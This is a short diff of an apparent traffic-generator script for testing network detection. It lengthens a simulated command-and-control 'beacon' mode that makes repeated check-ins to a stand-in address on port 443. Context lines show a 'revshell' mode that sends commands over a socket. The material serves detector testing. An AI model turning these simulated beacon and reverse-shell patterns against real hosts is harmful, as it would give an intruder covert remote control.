@@ -50,10 +50,11 @@ elif what == "revshell":
         f.write(cmd + b"\n"); f.flush(); f.readline()
     c.close()
 elif what == "beacon":
-    # Runs in the background for the whole recording: 12 check-ins, one every 1.5 s.
-    for i in range(12):
+    # Runs in the background for the whole recording: 14 check-ins, one every 5 s (a beacon
+    # needs minutes of contact, not seconds: beacon.min_span).
+    for i in range(14):
         c = socket.create_connection(("203.0.113.99", 443), timeout=2)
         f = c.makefile("rwb")
         f.write(b"beacon id=42 seq=%d\n" % i); f.flush(); f.readline()
         c.close()
-        time.sleep(1.5)
+        time.sleep(5)
